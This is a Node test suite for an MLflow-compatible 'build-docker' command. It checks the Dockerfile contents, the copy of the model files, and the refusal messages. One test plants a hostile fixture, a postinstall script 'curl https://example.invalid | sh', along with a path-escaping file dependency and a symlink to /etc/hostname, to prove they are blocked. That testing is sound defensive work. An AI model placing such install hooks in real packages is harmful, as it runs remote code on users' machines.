/**
 * `mlflow-autolog models build-docker` writes the build context MLflow's `build-docker` would
 * write for a Node model: checked by parsing the Dockerfile (no Docker daemon is needed), with
 * the model's files byte for byte as MLflow downloads them and its recorded dependencies as the
 * install. A model cannot smuggle an install script, a non-registry dependency or a file of this
 * machine into the image.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, relative } from 'node:path';
import { after, before, describe, test } from 'node:test';
import semver from 'semver';
import { fillStore, type FilledStore } from '../harness/cli';
import { runNode, type NodeResult } from '../harness/node';
import { REPO_ROOT, runPython } from '../harness/python';

const base = mkdtempSync(join(tmpdir(), 'cli-build-docker-it-'));
after(() => rmSync(base, { recursive: true, force: true }));
const tempDir = (prefix: string) => mkdtempSync(join(base, prefix));

const DRIVER = join(REPO_ROOT, 'dist', 'src', 'cli', 'main.js');
const SERVE = ['mlflow-autolog', 'models', 'serve', '-m', '/opt/ml/model', '-h', '0.0.0.0', '-p', '8080'];

/** `mlflow-autolog models build-docker <args>`, through the built CLI. */
function buildDocker(args: string[], env: NodeJS.ProcessEnv = {}): Promise<NodeResult> {
  return runNode([DRIVER, 'models', 'build-docker', ...args], { MLFLOW_TRACKING_URI: '', ...env });
}

interface Instruction {
  op: string;
  args: string;
}

/** A Dockerfile's instructions: continuation lines joined, comments and blank lines dropped. */
function parseDockerfile(text: string): Instruction[] {
  const instructions: Instruction[] = [];
  let pending = '';
  for (const raw of text.split('\n')) {
    if (pending === '' && (raw.trim() === '' || raw.trimStart().startsWith('#'))) continue;
    pending += raw.endsWith('\\') ? `${raw.slice(0, -1)} ` : raw;
    if (raw.endsWith('\\')) continue;
    const match = /^\s*([A-Za-z]+)\s+(.*)$/.exec(pending);
    assert.ok(match, `a Dockerfile instruction: ${pending}`);
    instructions.push({ op: match[1]!.toUpperCase(), args: match[2]!.trim() });
    pending = '';
  }
  assert.equal(pending, '', 'no dangling continuation');
  return instructions;
}

function treeOf(dir: string): Record<string, string> {
  const files: Record<string, string> = {};
  const walk = (at: string) => {
    for (const entry of readdirSync(at, { withFileTypes: true })) {
      const path = join(at, entry.name);
      if (entry.isDirectory()) walk(path);
      else files[relative(dir, path)] = createHash('sha256').update(readFileSync(path)).digest('hex');
    }
  };
  walk(dir);
  return files;
}

describe('mlflow-autolog models build-docker', () => {
  let store: FilledStore;
  /** The model's files as MLflow's own client downloads them. */
  let mlflowCopy: string;
  before(async () => {
    store = await fillStore(undefined, 1, 3, base);
    mlflowCopy = tempDir('build-docker-model-');
    await runPython([
      '-c',
      `import mlflow; mlflow.set_tracking_uri(${JSON.stringify(store.trackingUri)}); mlflow.artifacts.download_artifacts("models:/${store.model}/${store.ids.version}", dst_path=${JSON.stringify(mlflowCopy)})`,
    ]);
  });

  test('the Dockerfile installs Node, the recorded dependencies and the model in /opt/ml/model, exposes 8080 and runs models serve', async () => {
    const context = join(tempDir('build-docker-'), 'context');
    const result = await buildDocker(['-m', `models:/${store.model}/${store.ids.version}`, '-n', 'forest:1', '-d', context, '--no-build', '--tracking-uri', store.trackingUri]);
    assert.equal(result.code, 0, result.stderr);
    assert.equal(result.stdout, `${context}\n`);
    assert.match(result.stderr, new RegExp(`build it with: docker build -t forest:1 ${context}`));
    assert.deepEqual(readdirSync(context).sort(), ['Dockerfile', 'model_dir', 'package.json']);

    const recorded = JSON.parse(readFileSync(join(mlflowCopy, 'package.json'), 'utf8')) as { dependencies: Record<string, string>; engines: { node: string } };
    const steps = parseDockerfile(readFileSync(join(context, 'Dockerfile'), 'utf8'));
    const at = (op: string, args: RegExp | string) => steps.findIndex((s) => s.op === op && (typeof args === 'string' ? s.args === args : args.test(s.args)));

    assert.equal(steps[0]!.op, 'FROM');
    assert.equal(steps[0]!.args, `node:${semver.minVersion(recorded.engines.node)!.major}-slim`, 'the Node major version the model was saved with');
    assert.ok(at('WORKDIR', '/opt/mlflow') > 0, 'WORKDIR /opt/mlflow, as MLflow\'s image');
    const copyManifest = at('COPY', 'package.json /opt/mlflow/package.json');
    const install = at('RUN', /(^|&& )npm install --omit=dev( |$)/);
    const copyModel = at('COPY', 'model_dir /opt/ml/model');
    assert.ok(copyManifest > 0 && install > copyManifest && copyModel > install, 'the manifest, then npm install, then the model (the install layer is reused)');
    assert.ok(at('EXPOSE', '8080') > copyModel);
    assert.ok(at('USER', 'node') > install, 'the server does not run as root');
    const entrypoint = steps.at(-1)!;
    assert.equal(entrypoint.op, 'ENTRYPOINT');
    assert.deepEqual(JSON.parse(entrypoint.args), ['tini', '--', ...SERVE], 'exec form: docker stop reaches Node through tini');
    assert.ok(at('RUN', /apt-get install .*\btini\b/) > 0 && at('RUN', /apt-get install .*\btini\b/) < install, 'tini is installed');
    for (const copy of steps.filter((s) => s.op === 'COPY')) {
      const source = copy.args.split(/\s+/)[0]!;
      assert.ok(existsSync(join(context, source)), `the context holds ${source}`);
    }

    const manifest = JSON.parse(readFileSync(join(context, 'package.json'), 'utf8')) as { dependencies: Record<string, string>; engines: { node: string }; scripts?: unknown };
    assert.deepEqual(manifest.dependencies, recorded.dependencies, 'the model\'s recorded pins are what npm installs');
    assert.ok(manifest.dependencies['mlflow-autolog'] && manifest.dependencies['ml-random-forest'], 'the server and the flavor\'s library');
    assert.equal(manifest.engines.node, recorded.engines.node);
    assert.deepEqual(treeOf(join(context, 'model_dir')), treeOf(mlflowCopy), 'the model\'s files, byte for byte as MLflow downloads them');
  });

  test('--install-from puts an npm pack tarball in the context and installs mlflow-autolog from it', async () => {
    const tarball = join(tempDir('build-docker-tgz-'), 'mlflow-autolog-0.1.0.tgz');
    writeFileSync(tarball, Buffer.from('not really a tarball, but its bytes must arrive'));
    const context = join(tempDir('build-docker-'), 'context');
    const result = await buildDocker(['-m', mlflowCopy, '-d', context, '--no-build', '--install-from', tarball]);
    assert.equal(result.code, 0, result.stderr);
    assert.deepEqual(readFileSync(join(context, 'mlflow-autolog.tgz')), readFileSync(tarball));
    const manifest = JSON.parse(readFileSync(join(context, 'package.json'), 'utf8')) as { dependencies: Record<string, string> };
    assert.equal(manifest.dependencies['mlflow-autolog'], 'file:mlflow-autolog.tgz');
    const steps = parseDockerfile(readFileSync(join(context, 'Dockerfile'), 'utf8'));
    const copy = steps.findIndex((s) => s.op === 'COPY' && s.args === 'mlflow-autolog.tgz /opt/mlflow/mlflow-autolog.tgz');
    const install = steps.findIndex((s) => s.op === 'RUN' && s.args.includes('npm install'));
    assert.ok(copy > 0 && copy < install, 'the tarball is in place before npm install');
  });

  test('a model cannot bring an install script, a non-registry dependency, node_modules or a link out of its folder', async () => {
    const model = tempDir('build-docker-hostile-');
    cpSync(mlflowCopy, model, { recursive: true });
    const recorded = JSON.parse(readFileSync(join(model, 'package.json'), 'utf8')) as Record<string, unknown> & { dependencies: Record<string, string> };
    writeFileSync(join(model, 'package.json'), JSON.stringify({ ...recorded, scripts: { postinstall: 'curl https://example.invalid | sh' } }));
    mkdirSync(join(model, 'node_modules', 'left-behind'), { recursive: true });
    writeFileSync(join(model, 'node_modules', 'left-behind', 'index.js'), '');
    const withScript = join(tempDir('build-docker-'), 'context');
    const scripted = await buildDocker(['-m', model, '-d', withScript, '--no-build']);
    assert.equal(scripted.code, 0, scripted.stderr);
    const manifest = JSON.parse(readFileSync(join(withScript, 'package.json'), 'utf8')) as Record<string, unknown>;
    assert.equal(manifest.scripts, undefined, 'the install manifest has no scripts');
    assert.deepEqual(manifest.dependencies, recorded.dependencies);
    assert.equal(existsSync(join(withScript, 'model_dir', 'node_modules')), false, 'the model\'s node_modules stays out of the image');

    writeFileSync(join(model, 'package.json'), JSON.stringify({ ...recorded, dependencies: { ...recorded.dependencies, helper: 'file:../../home' } }));
    const fileDependency = join(tempDir('build-docker-'), 'context');
    const refused = await buildDocker(['-m', model, '-d', fileDependency, '--no-build']);
    assert.equal(refused.code, 2);
    assert.match(refused.stderr, /depends on "helper" at "file:\.\.\/\.\.\/home": an image installs registry packages at pinned versions only/);
    assert.equal(existsSync(fileDependency), false, 'nothing was written');

    writeFileSync(join(model, 'package.json'), JSON.stringify(recorded));
    symlinkSync('/etc/hostname', join(model, 'data', 'hostname'));
    const linked = join(tempDir('build-docker-'), 'context');
    const linkOut = await buildDocker(['-m', model, '-d', linked, '--no-build']);
    assert.equal(linkOut.code, 2);
    assert.match(linkOut.stderr, /Refusing to copy the model: data\/hostname is a symbolic link to \/etc\/hostname, outside the model folder/);
    assert.equal(existsSync(linked), false, 'the half-written context was removed');
  });

  test('a Python-only model, a used output folder and a bad image name exit 2 saying what to do', async () => {
    const python = tempDir('build-docker-python-');
    writeFileSync(join(python, 'MLmodel'), 'flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    env: conda.yaml\n');
    const notOurs = await buildDocker(['-m', python, '-d', join(python, '..', 'out-python'), '--no-build']);
    assert.equal(notOurs.code, 2);
    assert.match(notOurs.stderr, /has no js_function flavor, so mlflow-autolog cannot serve it \(flavors: python_function\)\. .*mlflow models build-docker/);

    const used = tempDir('build-docker-used-');
    writeFileSync(join(used, 'keep.txt'), 'mine');
    const notEmpty = await buildDocker(['-m', mlflowCopy, '-d', used, '--no-build']);
    assert.equal(notEmpty.code, 2);
    assert.match(notEmpty.stderr, /The output folder .* is not empty \(keep\.txt\); give an empty or new folder/);
    assert.deepEqual(readdirSync(used), ['keep.txt']);

    const badName = await buildDocker(['-m', mlflowCopy, '-n', 'Not An Image']);
    assert.equal(badName.code, 2);
    assert.match(badName.stderr, /"Not An Image" is not a Docker image name/);
    const noModel = await buildDocker(['-n', 'x']);
    assert.equal(noModel.code, 2);
    assert.match(noModel.stderr, /required option '-m, --model-uri <uri>' not specified/);
  });

  test('without docker on PATH, the build exits 1 and says where the context is and how to build it', async () => {
    const context = join(tempDir('build-docker-'), 'context');
    const result = await buildDocker(['-m', mlflowCopy, '-n', 'forest:2', '-d', context], { PATH: dirname(process.execPath) });
    assert.equal(result.code, 1);
    assert.match(result.stderr, new RegExp(`docker is not installed here \\(or not on PATH\\)\\. The build context is in ${context}; build it where Docker runs with: docker build -t forest:2 ${context}`));
    assert.ok(existsSync(join(context, 'Dockerfile')), 'the context is kept for that');
  });
});
